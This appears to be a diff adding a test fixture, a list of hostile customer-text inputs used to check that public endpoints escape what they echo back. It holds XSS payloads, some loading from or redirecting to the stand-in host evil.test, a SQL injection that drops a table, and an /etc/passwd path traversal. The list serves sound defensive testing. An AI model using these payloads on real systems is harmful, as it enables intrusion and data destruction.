@@ -141,3 +141,35 @@ export function propertySeed(): number {
   const fromEnv = Number(process.env.FC_SEED);
   return Number.isInteger(fromEnv) ? fromEnv : Math.floor(Math.random() * 2 ** 31);
 }
+
+// The hand-written table for the public endpoints: each is sent as customer text (a complaint, a
+// story, a name) and must come back as the same text — escaped wherever it is shown.
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...MARKUP,
+  ...FORMULAS,
+  ...ODD_UNICODE,
+  "<b>bold</b> and <i>italic</i>",
+  "<img src=x>",
+  "&amp; &lt;script&gt; &#x3C;script&#x3E;",
+  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
+  "<base href=\"//evil.test/\">",
+  "<meta http-equiv=\"refresh\" content=\"0;url=//evil.test\">",
+  "<form action=//evil.test><button>Claim refund</button></form>",
+  "<input autofocus onfocus=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+  "<template><script>alert(1)</script></template>",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "<div style=\"background:url(javascript:alert(1))\">x</div>",
+  "<link rel=stylesheet href=//evil.test/x.css>",
+  "\"'`;--",
+  "'); DROP TABLE \"FeedbackItem\"; --",
+  "../../../../etc/passwd",
+  "line one\nline two\r\nline three",
+  "(parentheses) \\backslash\\ in a PDF string",
+  "emoji 🙃 and 漢字 and العربية",
+  "\u00a0non-breaking\u00a0spaces\u00a0",
+] as const;
